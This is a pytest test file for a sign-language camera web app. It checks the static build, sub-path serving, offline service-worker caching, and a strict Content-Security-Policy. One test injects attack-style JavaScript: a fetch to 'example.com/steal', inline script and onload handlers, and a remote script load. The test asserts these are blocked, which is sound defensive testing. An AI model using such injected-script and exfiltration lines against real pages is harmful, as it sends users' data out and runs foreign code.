"""The deployable site (`make site`): served under a sub-path like GitHub Pages, offline after one
visit, no request off its own origin, and a Content-Security-Policy that blocks anything remote."""
import json
import re
import subprocess

import pytest

from conftest import ROOT, Site, open_page, write_y4m
from test_page import digits_test_split  # noqa: F401  (a fixture: the digits model's held-out photos)
from test_sign_to_text import held_out_frames

SUB_PATH = "signcam/"  # as on https://USER.github.io/signcam/

# Every Content-Security-Policy violation the page meets, kept for the test to read.
WATCH_CSP = """
window.cspViolations = [];
document.addEventListener('securitypolicyviolation',
    (event) => window.cspViolations.push(`${event.violatedDirective} ${event.blockedURI}`));
"""


@pytest.fixture(scope="module")
def built_site(site, tmp_path_factory):  # `site` checks that web/vendor/ is filled first
    out = tmp_path_factory.mktemp("build") / "site"
    result = subprocess.run(["make", "--no-print-directory", "site", f"SITE={out}"], cwd=ROOT,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, f"make site failed:\n{result.stdout}\n{result.stderr}"
    return out


@pytest.fixture
def pages(built_site, tmp_path):
    """The built site served at /signcam/ only; anything asked for outside it is a 404."""
    empty = tmp_path / "root"
    empty.mkdir()
    server = Site(root=empty)
    server.mount("/" + SUB_PATH, built_site)
    yield server
    server.close()


def test_make_site_builds_the_page_vendor_files_and_models_with_a_versioned_offline_list(built_site):
    for path in ["index.html", "app.js", "speller.js", "sw.js", "manifest.webmanifest",
                 "vendor/tf.min.js", "vendor/tfjs-backend-wasm-simd.wasm", "model/digits/model.json",
                 "language/en.json", "language/names.json"]:
        assert (built_site / path).is_file(), f"make site left out {path}"
    assert not list(built_site.rglob(".*")), "hidden files (e.g. vendor/.copied) are not for the site"
    worker = (built_site / "sw.js").read_text()
    version, files = re.search(r"^const BUILD = \{ version: '(\w+)', files: \[(.*)\] \};", worker, re.M).groups()
    listed = set(re.findall(r'"([^"]+)"', files))
    on_disk = {str(p.relative_to(built_site)) for p in built_site.rglob("*") if p.is_file()} - {"sw.js"}
    assert listed == on_disk
    # Every URL in the page and the manifest is relative, so the site works under any sub-path.
    html = (built_site / "index.html").read_text()
    assert not re.search(r'(src|href)="(/|https?:)', html)
    manifest = json.loads((built_site / "manifest.webmanifest").read_text())
    assert manifest["start_url"] == manifest["scope"] == "./"
    assert all((built_site / icon["src"]).is_file() for icon in manifest["icons"])


def test_site_works_under_a_sub_path_then_offline_and_talks_only_to_its_origin(
        pages, launch, digits_test_split, tmp_path):  # noqa: F811
    _, paths, labels = digits_test_split
    frame = held_out_frames("digits", paths, labels, {"5"})["5"]
    camera = write_y4m(tmp_path / "five.y4m", [frame])
    folder = pages.url + SUB_PATH
    url = folder + "?model=digits&landmarks=off"  # the site's files and requests; tests/test_hands.py covers the tracker
    page = open_page(launch(camera=str(camera)), url, init_script=WATCH_CSP)
    requests = page.evaluate("performance.getEntriesByType('resource').map((entry) => entry.name)")
    page.context.on("request", lambda request: requests.append(request.url))  # from now on
    page.click("[data-testid=start]")
    page.wait_for_function("() => document.querySelector('[data-testid=prediction]').textContent === '5'",
                           timeout=60_000)
    assert page.evaluate("window.cspViolations") == []
    # The worker takes over the page that installed it and has cached every file of the site.
    page.wait_for_function("() => navigator.serviceWorker.controller !== null", timeout=30_000)
    cached = page.evaluate("""async () => {
        const names = await caches.keys();
        return names.length === 1 ? (await (await caches.open(names[0])).keys()).length : -names.length;
    }""")
    assert cached == len(list(p for p in (pages.mounts["/" + SUB_PATH]).rglob("*") if p.is_file()))  # + './' - sw.js

    page.context.set_offline(True)
    response = page.reload()
    assert response.from_service_worker, "the offline page did not come from the service worker"
    page.wait_for_function("() => !document.querySelector('[data-testid=start]').disabled", timeout=60_000)
    page.click("[data-testid=start]")
    page.wait_for_function("() => document.querySelector('[data-testid=prediction]').textContent === '5'",
                           timeout=60_000)

    foreign = [u for u in requests if not u.startswith((folder, "blob:", "data:"))]
    assert foreign == [], f"requests left the site's folder: {foreign}"


def test_content_security_policy_allows_the_page_and_nothing_remote(pages, launch):
    page = open_page(launch(), pages.url + SUB_PATH, init_script=WATCH_CSP)
    policy = page.get_attribute('meta[http-equiv="Content-Security-Policy"]', "content")
    assert "'wasm-unsafe-eval'" in policy and "'unsafe-eval'" not in policy.replace("'wasm-unsafe-eval'", "")
    assert "'unsafe-inline'" not in policy and not re.search(r"https?:", policy)
    assert page.evaluate("window.cspViolations") == []
    # What injected markup or script would try: run inline code, send data elsewhere, load a remote
    # script. (Playwright's own evaluate() is exempt from the policy, so eval() cannot be tested here.)
    outcome = page.evaluate("""async () => {
        const fetched = await fetch('https://example.com/steal').then(() => 'sent', () => 'blocked');
        const inline = document.createElement('script');
        inline.textContent = 'window.inlineRan = true';
        document.head.append(inline);
        document.body.insertAdjacentHTML('beforeend', '<img src="icon.svg" onload="window.handlerRan = true">');
        await new Promise((resolve) => setTimeout(resolve, 300));
        const evaluated = window.inlineRan || window.handlerRan ? 'ran' : 'blocked';
        const script = document.createElement('script');
        script.src = 'https://example.com/x.js';
        const loaded = await new Promise((resolve) => {
            script.onload = () => resolve('loaded');
            script.onerror = () => resolve('blocked');
            document.head.append(script);
        });
        return [fetched, evaluated, loaded];
    }""")
    assert outcome == ["blocked", "blocked", "blocked"]
    violated = " ".join(page.evaluate("window.cspViolations"))
    assert "connect-src" in violated and "script-src" in violated


def test_in_development_the_worker_leaves_every_request_to_the_network(site, launch):
    # `make serve` serves web/ itself: there sw.js has no file list, so an edited file shows on reload.
    page = open_page(launch(), site.url)
    page.wait_for_function("() => navigator.serviceWorker.controller !== null", timeout=30_000)
    response = page.reload()
    assert not response.from_service_worker
    assert page.evaluate("caches.keys()") == []
